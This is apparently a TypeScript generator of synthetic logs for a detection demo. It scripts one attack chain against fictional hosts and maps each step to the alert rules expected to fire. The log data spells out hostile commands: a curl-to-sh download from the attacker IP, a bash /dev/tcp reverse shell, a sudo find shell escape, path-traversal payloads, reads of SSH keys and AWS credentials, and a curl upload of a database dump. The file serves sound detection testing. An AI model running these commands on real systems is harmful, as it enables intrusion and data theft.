// The one multi-step attack woven into the demo day, from 203.0.113.66: each step writes the
// lines real systems would log, and ATTACK_STEPS says which L1 rules must fire on them and on
// which host, so tests and the demo summary can check the story end to end.
import { ATTACKER_IP, AWS_ACCOUNT, CUSTOMER_BUCKET, DAY_START, EXPORT_ROLE, HOUR, SERVICE_ACCOUNTS, host } from './estate.ts';
import { Gen, LogSet, nginxErrorTime, syslogTime } from './gen.ts';
import { auditExec } from './day-linux.ts';
import { cefLine, cloudTrailRecord, fwLine, leefLine, nginxLine } from './day-other.ts';

export interface AttackStep {
  id: string;
  /** What happens, in words. */
  summary: string;
  /** When the step starts. */
  at: number;
  /** The host the step acts on (or `aws`). */
  host: string;
  /** Titles of the global rules that must raise an alert on the step's lines. */
  rules: string[];
}

const T = (h: number, m: number) => DAY_START + h * HOUR + m * 60_000;

export const ATTACK_STEPS: readonly AttackStep[] = [
  { id: 'scan', summary: 'port scan of the DMZ through the perimeter firewall, then content discovery on the shop', at: T(13, 5), host: 'web-1', rules: ['Port Scan Through The Firewall', 'Web Content Discovery From One Source', 'Vulnerability Scanner User Agent'] },
  { id: 'spray', summary: 'SSH password spraying on the bastion', at: T(13, 40), host: 'bastion', rules: ['SSH Password Spraying'] },
  { id: 'exploit', summary: 'path traversal and command injection in the shop (CVE-2026-99001), a shell as www-data', at: T(14, 10), host: 'web-1', rules: ['Path Traversal Attempt In URL', 'Command Injection Attempt In URL', 'Shell Started By A Web Application', 'Reverse Shell Command Line'] },
  { id: 'privesc', summary: 'privilege escalation through a sudo rule that lets www-data run find as root', at: T(14, 30), host: 'web-1', rules: ['Shell Escape Through Sudo'] },
  { id: 'lateral', summary: "deploy's private SSH key stolen on web-1, used to log in to the database host", at: T(14, 45), host: 'db-1', rules: ['Private SSH Key Read', 'SSH With A Copied Private Key'] },
  { id: 'collect', summary: 'on db-1: the backup job\'s AWS key read and the shop database dumped', at: T(15, 0), host: 'db-1', rules: ['Cloud Credentials File Read', 'Database Dump To A Temporary Directory'] },
  { id: 'exfil', summary: 'exfiltration through the AWS account: AssumeRole, a burst of GetObject on the customer bucket, a new access key', at: T(15, 20), host: 'aws', rules: ['AWS S3 Mass Object Download', 'AWS Access Key Created'] },
];

const S = (t: number, h: string, prog: string, msg: string) => `${syslogTime(t)} ${h} ${prog}: ${msg}`;
const at = (id: string) => ATTACK_STEPS.find((s) => s.id === id)?.at ?? 0;

function scan(g: Gen, logs: LogSet): void {
  const t0 = at('scan');
  const dmz = ['web-1', 'web-2', 'mail-1', 'bastion'].map((h) => host(h).ip);
  const ports = [21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 993, 1433, 1521, 2375, 3306, 3389, 5432, 5900, 6379, 8000, 8080, 8443, 9200, 11211, 27017];
  let t = t0;
  for (const ip of dmz) {
    for (const p of ports) {
      t += g.int(40, 400);
      const open = (p === 443 && (ip === host('web-1').ip || ip === host('web-2').ip)) || (p === 22 && ip === host('bastion').ip) || (p === 25 && ip === host('mail-1').ip);
      logs.add('fw-1/traffic.log', t, fwLine(t, g, ATTACKER_IP, ip, p, open ? 'accept' : 'deny', 'wan1', 'dmz'));
    }
  }
  logs.add('security/ids-leef.log', t0 + 2000, leefLine(t0 + 2000, 'ET SCAN Nmap SYN scan', ATTACKER_IP, host('web-1').ip, 3389, 6, 'scan'));
  // Content discovery on the shop: a word list, almost everything 404.
  const words = ['admin', 'backup', 'old', 'test', 'dev', '.git/HEAD', '.env', 'config.php', 'wp-admin', 'phpmyadmin', 'server-status', 'api/v1', 'api/debug', 'uploads', 'shop/download', 'shop/api/render', 'console', 'actuator/health', 'debug', 'login.bak'];
  t = t0 + 5 * 60_000;
  for (let round = 0; round < 6; round++) {
    for (const w of words) {
      t += g.int(80, 600);
      const found = w === 'shop/download' || w === 'shop/api/render' || w === 'uploads';
      logs.add('web-1/nginx-access.log', t, nginxLine(t, ATTACKER_IP, 'GET', `/${w}${round ? `/${['index', 'old', 'v2', 'tmp', 'x'][round - 1]}` : ''}`, found ? 400 : 404, g.int(150, 600), 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))'));
      if (!found && round === 0) logs.add('web-1/nginx-error.log', t, `${nginxErrorTime(t)} [error] 811#811: *${g.int(1000, 99999)} open() "/var/www/shop/public/${w}" failed (2: No such file or directory), client: ${ATTACKER_IP}, server: shop.acme.example, request: "GET /${w} HTTP/1.1", host: "shop.acme.example"`);
    }
  }
}

function spray(g: Gen, logs: LogSet): void {
  const users = ['admin', 'alice', 'bob', 'carol', 'dave', 'deploy', 'backup', 'ubuntu', 'git', 'jenkins', 'postgres', 'test', 'oracle', 'heidi'];
  let t = at('spray');
  for (let round = 0; round < 2; round++) { // two passwords, each tried on every name
    for (const u of users) {
      t += g.int(3000, 9000);
      const pid = g.int(30000, 60000);
      const known = ['alice', 'bob', 'carol', 'dave', 'deploy', 'backup', 'postgres', 'heidi'].includes(u);
      if (!known) logs.add('syslog/auth.log', t, S(t, 'bastion', `sshd[${pid}]`, `Invalid user ${u} from ${ATTACKER_IP} port ${g.int(30000, 60000)}`));
      logs.add('syslog/auth.log', t + 400, S(t + 400, 'bastion', `sshd[${pid}]`, `Failed password for ${known ? '' : 'invalid user '}${u} from ${ATTACKER_IP} port ${g.int(30000, 60000)} ssh2`));
      logs.add('syslog/auth.log', t + 600, S(t + 600, 'bastion', `sshd[${pid}]`, `Connection closed by ${known ? 'authenticating' : 'invalid'} user ${u} ${ATTACKER_IP} port ${g.int(30000, 60000)} [preauth]`));
    }
    t += 10 * 60_000;
  }
}

function exploit(g: Gen, logs: LogSet, serials: Map<string, number>): void {
  const web = host('web-1');
  let t = at('exploit');
  const ua = 'python-requests/2.32.3';
  // Path traversal in the shop's download handler (CVE-2026-99001): system files, then the app's config.
  for (const f of ['../../../../etc/passwd', '../../../../etc/hostname', '..%2f..%2f.env', '../../config/production.json']) {
    t += g.int(2000, 9000);
    logs.add('web-1/nginx-access.log', t, nginxLine(t, ATTACKER_IP, 'GET', `/shop/download?file=${f}`, 200, g.int(200, 4000), ua));
  }
  logs.add('security/waf-cef.log', t, cefLine(t, '930100', 'Path Traversal Attack (/../)', 7, ATTACKER_IP, web.ip, '/shop/download?file=../../config/production.json', 'alerted'));
  // Command injection in the template preview: the request, and what auditd sees on web-1.
  const cmds: [string, string[]][] = [
    ['id', ['sh', '-c', 'id']],
    ['uname%20-a', ['sh', '-c', 'uname -a']],
    ['curl%20-s%20http://203.0.113.66/k.sh%7Csh', ['sh', '-c', `curl -s http://${ATTACKER_IP}/k.sh|sh`]],
  ];
  for (const [q, args] of cmds) {
    t += g.int(20_000, 60_000);
    logs.add('web-1/nginx-access.log', t, nginxLine(t, ATTACKER_IP, 'GET', `/shop/api/render?tpl=invoice;${q}`, 200, g.int(100, 900), ua));
    auditExec(logs, g, serials, 'web-1', t + 80, '/usr/bin/dash', args, SERVICE_ACCOUNTS.www.uid, '/var/www/shop', 4294967295);
  }
  t += 30_000;
  auditExec(logs, g, serials, 'web-1', t, '/usr/bin/bash', ['bash', '-c', `bash -i >& /dev/tcp/${ATTACKER_IP}/4444 0>&1`], SERVICE_ACCOUNTS.www.uid, '/tmp', 4294967295);
  logs.add('fw-1/traffic.log', t + 50, fwLine(t + 50, g, web.ip, ATTACKER_IP, 4444, 'accept', 'dmz', 'wan1'));
}

function privesc(g: Gen, logs: LogSet, serials: Map<string, number>): void {
  let t = at('privesc');
  auditExec(logs, g, serials, 'web-1', t, '/usr/bin/sudo', ['sudo', '-l'], SERVICE_ACCOUNTS.www.uid, '/var/www/shop', 4294967295);
  t += g.int(20_000, 50_000);
  const cmd = '/usr/bin/find /var/www/shop -maxdepth 0 -exec /bin/sh -p ;';
  logs.add('syslog/auth.log', t, S(t, 'web-1', 'sudo', `www-data : TTY=pts/0 ; PWD=/var/www/shop ; USER=root ; COMMAND=${cmd}`));
  logs.add('syslog/auth.log', t + 30, S(t + 30, 'web-1', 'sudo', 'pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)'));
  auditExec(logs, g, serials, 'web-1', t + 60, '/usr/bin/find', ['/usr/bin/find', '/var/www/shop', '-maxdepth', '0', '-exec', '/bin/sh', '-p', ';'], 0, '/var/www/shop', 4294967295);
  auditExec(logs, g, serials, 'web-1', t + 120, '/usr/bin/dash', ['/bin/sh', '-p'], 0, '/var/www/shop', 4294967295);
}

function lateral(g: Gen, logs: LogSet, serials: Map<string, number>): void {
  let t = at('lateral');
  auditExec(logs, g, serials, 'web-1', t, '/usr/bin/ls', ['ls', '-la', '/home/deploy/.ssh'], 0, '/root', 4294967295);
  t += g.int(5_000, 20_000);
  auditExec(logs, g, serials, 'web-1', t, '/usr/bin/cp', ['cp', '/home/deploy/.ssh/id_ed25519', '/dev/shm/.k'], 0, '/root', 4294967295);
  t += g.int(30_000, 90_000);
  auditExec(logs, g, serials, 'web-1', t, '/usr/bin/ssh', ['ssh', '-i', '/dev/shm/.k', '-o', 'StrictHostKeyChecking=no', 'deploy@10.0.20.21'], 0, '/root', 4294967295);
  logs.add('fw-1/traffic.log', t + 100, fwLine(t + 100, g, host('web-1').ip, host('db-1').ip, 22, 'accept', 'dmz', 'servers'));
  const pid = g.int(30000, 60000);
  const port = g.int(32768, 60999);
  logs.add('syslog/auth.log', t + 400, S(t + 400, 'db-1', `sshd[${pid}]`, `Accepted publickey for deploy from ${host('web-1').ip} port ${port} ssh2: ED25519 SHA256:${g.hex(16)}`));
  logs.add('syslog/auth.log', t + 600, S(t + 600, 'db-1', `sshd[${pid}]`, `pam_unix(sshd:session): session opened for user deploy(uid=${SERVICE_ACCOUNTS.deploy.uid}) by (uid=0)`));
}

function collect(g: Gen, logs: LogSet, serials: Map<string, number>): void {
  let t = at('collect');
  const deploy = SERVICE_ACCOUNTS.deploy.uid;
  auditExec(logs, g, serials, 'db-1', t, '/usr/bin/id', ['id'], deploy, '/home/deploy');
  t += g.int(10_000, 40_000);
  auditExec(logs, g, serials, 'db-1', t, '/usr/bin/find', ['find', '/opt', '-name', '*.env', '-o', '-name', 'credentials'], deploy, '/home/deploy');
  t += g.int(10_000, 40_000);
  auditExec(logs, g, serials, 'db-1', t, '/usr/bin/cat', ['cat', '/opt/backup/.aws/credentials'], deploy, '/home/deploy');
  t += g.int(60_000, 120_000);
  auditExec(logs, g, serials, 'db-1', t, '/usr/bin/pg_dump', ['pg_dump', '-h', '127.0.0.1', '-U', 'shop', '-f', '/tmp/.s.sql', 'shop'], deploy, '/home/deploy');
  t += g.int(60_000, 120_000);
  auditExec(logs, g, serials, 'db-1', t, '/usr/bin/curl', ['curl', '-s', '-T', '/tmp/.s.sql', `http://${ATTACKER_IP}/u`], deploy, '/home/deploy');
  logs.add('fw-1/traffic.log', t + 80, fwLine(t + 80, g, host('db-1').ip, ATTACKER_IP, 80, 'deny', 'servers', 'wan1'));
}

function exfil(g: Gen, logs: LogSet): void {
  let t = at('exfil');
  const key = { type: 'IAMUser' as const, user: 'backup-svc' };
  const f = 'cloud/cloudtrail.jsonl';
  logs.add(f, t, cloudTrailRecord(g, t, key, ATTACKER_IP, 'sts.amazonaws.com', 'GetCallerIdentity'));
  t += g.int(20_000, 60_000);
  logs.add(f, t, cloudTrailRecord(g, t, key, ATTACKER_IP, 'iam.amazonaws.com', 'ListRoles'));
  t += g.int(20_000, 60_000);
  logs.add(f, t, cloudTrailRecord(g, t, key, ATTACKER_IP, 'sts.amazonaws.com', 'AssumeRole', {
    requestParameters: { roleArn: `arn:aws:iam::${AWS_ACCOUNT}:role/${EXPORT_ROLE}`, roleSessionName: 'backup' },
    responseElements: { assumedRoleUser: { arn: `arn:aws:sts::${AWS_ACCOUNT}:assumed-role/${EXPORT_ROLE}/backup` } },
  }));
  const role = { type: 'AssumedRole' as const, user: EXPORT_ROLE, session: 'backup' };
  t += g.int(10_000, 30_000);
  logs.add(f, t, cloudTrailRecord(g, t, role, ATTACKER_IP, 's3.amazonaws.com', 'ListObjects', { requestParameters: { bucketName: CUSTOMER_BUCKET, prefix: 'customers/' } }));
  for (let i = 0; i < 240; i++) {
    t += g.int(500, 2500);
    logs.add(f, t, cloudTrailRecord(g, t, role, ATTACKER_IP, 's3.amazonaws.com', 'GetObject', { requestParameters: { bucketName: CUSTOMER_BUCKET, key: `customers/part-${String(i).padStart(4, '0')}.csv.gz` } }));
  }
  t += g.int(60_000, 180_000);
  logs.add(f, t, cloudTrailRecord(g, t, key, ATTACKER_IP, 'iam.amazonaws.com', 'CreateAccessKey', { requestParameters: { userName: 'backup-svc' }, responseElements: { accessKey: { userName: 'backup-svc', status: 'Active', accessKeyId: 'AKIADEMOATTACKER0001' } } }));
}

export function attack(g: Gen, logs: LogSet, serials: Map<string, number>): void {
  scan(g, logs);
  spray(g, logs);
  exploit(g, logs, serials);
  privesc(g, logs, serials);
  lateral(g, logs, serials);
  collect(g, logs, serials);
  exfil(g, logs);
}
